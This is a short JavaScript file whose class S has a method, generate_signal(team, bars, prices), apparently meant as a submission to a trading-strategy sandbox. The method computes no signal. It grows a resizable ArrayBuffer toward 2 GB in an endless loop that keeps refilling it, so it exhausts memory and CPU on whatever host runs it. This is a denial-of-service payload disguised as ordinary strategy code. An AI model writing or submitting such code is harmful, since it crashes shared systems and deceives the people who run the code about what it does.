export class S {
  generate_signal(team, bars, prices) {
    const buffer = new ArrayBuffer(0, { maxByteLength: 2 ** 31 });
    const bytes = new Uint8Array(buffer);
    for (let size = 1e6;; size += 1e6) {
      if (size < 2 ** 31) buffer.resize(size);
      bytes.fill(1);
    }
  }
}
